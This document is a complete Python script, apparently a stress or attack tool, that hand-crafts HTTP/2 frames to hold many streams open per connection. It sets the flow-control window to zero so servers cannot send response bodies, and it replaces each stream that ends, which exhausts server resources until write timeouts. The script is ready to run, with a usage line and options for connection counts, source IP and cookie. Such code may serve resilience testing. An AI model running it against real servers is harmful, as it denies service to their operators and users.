#!/usr/bin/env python3
"""HTTP/2 by hand: N connections from one address, each keeping S streams open by never
opening their flow-control window (SETTINGS_INITIAL_WINDOW_SIZE = 0), so that every stream's
response body waits for the write timeout; a stream that ends is replaced at once.

usage: h2_hold.py HOST:PORT AUTHORITY PATH CONNS STREAMS SECONDS [SOURCE_IP] [COOKIE]
Prints, every second: open streams the client believes it has, responses started, resets.
"""
import socket, ssl, struct, sys, threading, time

addr, authority, path = sys.argv[1], sys.argv[2], sys.argv[3]
conns, per_conn, seconds = int(sys.argv[4]), int(sys.argv[5]), float(sys.argv[6])
source = sys.argv[7] if len(sys.argv) > 7 else "127.0.0.1"
cookie = sys.argv[8] if len(sys.argv) > 8 else None
host, port = addr.rsplit(":", 1)
port = int(port)

def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload

def lit(name_index, value):
    v = value.encode()
    assert len(v) < 127
    return bytes([name_index]) + bytes([len(v)]) + v

def lit_new(name, value):
    n, v = name.encode(), value.encode()
    out = b"\x00" + bytes([len(n)]) + n
    if len(v) < 127:
        out += bytes([len(v)])
    else:
        rest, out2 = len(v) - 127, bytes([127])
        while rest >= 128:
            out2 += bytes([(rest & 0x7f) | 0x80]); rest >>= 7
        out += out2 + bytes([rest])
    return out + v

def block():
    b = b"\x82\x87" + (b"\x84" if path == "/" else lit(0x04, path)) + lit(0x01, authority)
    if cookie:
        b += lit_new("cookie", cookie)
    return b

stats = {"open": 0, "responses": 0, "resets": 0, "goaway": 0, "closed": 0, "data": 0}
lock = threading.Lock()
stop = time.time() + seconds

def run(i):
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    raw = socket.socket()
    raw.bind((source, 0))
    try:
        raw.connect((host, port))
        s = ctx.wrap_socket(raw, server_hostname=authority)
    except Exception as e:
        with lock: stats["closed"] += 1
        return
    # SETTINGS: INITIAL_WINDOW_SIZE = 0 (no response DATA can be sent), ENABLE_PUSH = 0
    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, struct.pack(">HI", 4, 0) + struct.pack(">HI", 2, 0)))
    next_id = [1]
    live = set()
    wlock = threading.Lock()
    def open_stream():
        sid = next_id[0]; next_id[0] += 2
        live.add(sid)
        with wlock:
            s.sendall(frame(1, 0x5, sid, block()))
        with lock: stats["open"] += 1
    for _ in range(per_conn):
        open_stream()
    buf = b""
    s.settimeout(1.0)
    while time.time() < stop:
        try:
            chunk = s.recv(65536)
        except socket.timeout:
            continue
        except Exception:
            break
        if not chunk:
            break
        buf += chunk
        while len(buf) >= 9:
            ln = int.from_bytes(buf[0:3], "big"); kind, flags = buf[3], buf[4]
            sid = int.from_bytes(buf[5:9], "big") & 0x7fffffff
            if len(buf) < 9 + ln: break
            payload = buf[9:9+ln]; buf = buf[9+ln:]
            if kind == 4 and not flags & 1:
                with wlock: s.sendall(frame(4, 1, 0))
            elif kind == 1:
                with lock: stats["responses"] += 1
                if flags & 1 and sid in live:
                    live.discard(sid)
                    with lock: stats["open"] -= 1
                    if time.time() < stop: open_stream()
            elif kind == 0:
                with lock: stats["data"] += 1
                if flags & 1 and sid in live:
                    live.discard(sid)
                    with lock: stats["open"] -= 1
                    if time.time() < stop: open_stream()
            elif kind == 3:
                with lock: stats["resets"] += 1
                if sid in live:
                    live.discard(sid)
                    with lock: stats["open"] -= 1
                    if time.time() < stop: open_stream()
            elif kind == 7:
                with lock: stats["goaway"] += 1
            elif kind == 6 and not flags & 1:
                with wlock: s.sendall(frame(6, 1, 0, payload))
    with lock:
        stats["open"] -= len(live)
        stats["closed"] += 1
    try: s.close()
    except Exception: pass

threads = [threading.Thread(target=run, args=(i,), daemon=True) for i in range(conns)]
for t in threads: t.start()
start = time.time()
while time.time() < stop + 1 and any(t.is_alive() for t in threads):
    time.sleep(1)
    with lock:
        print(f"t={time.time()-start:5.1f}s {stats}", flush=True)
